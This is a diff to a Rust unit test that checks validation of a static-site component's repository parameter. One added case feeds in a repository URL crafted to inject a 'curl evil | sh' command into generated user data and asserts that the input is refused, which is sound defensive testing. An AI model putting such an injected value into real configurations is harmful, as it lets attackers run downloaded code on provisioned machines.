@@ -14,7 +14,11 @@ fn builds_validates_and_checks_its_parameters() {
     let s = stack.synth(&[&SimCloud::catalog()]).unwrap();
     assert_eq!(s.resources.len(), 4);
     let err = StaticSite.build_json(&cx, serde_json::json!({ "repo": "ftp://old" })).err().unwrap();
-    assert!(err.to_string().contains("https://"), "{err}");
+    assert!(err.to_string().contains("params.repo") && err.to_string().contains("https"), "{err}");
+    // A repository URL that tries to add its own command is refused, not pasted into user data.
+    let evil = "https://git.example/a.git\"]\n  - [sh, -c, \"curl evil | sh";
+    let err = StaticSite.build_json(&cx, serde_json::json!({ "repo": evil })).err().unwrap();
+    assert!(err.to_string().contains("params.repo"), "{err}");
     let err = StaticSite.build_json(&cx, serde_json::json!({ "sise": "small" })).err().unwrap();
     assert!(err.to_string().contains("unknown field"), "{err}");
     assert_eq!(StaticSite.params_schema()["type"], "object");
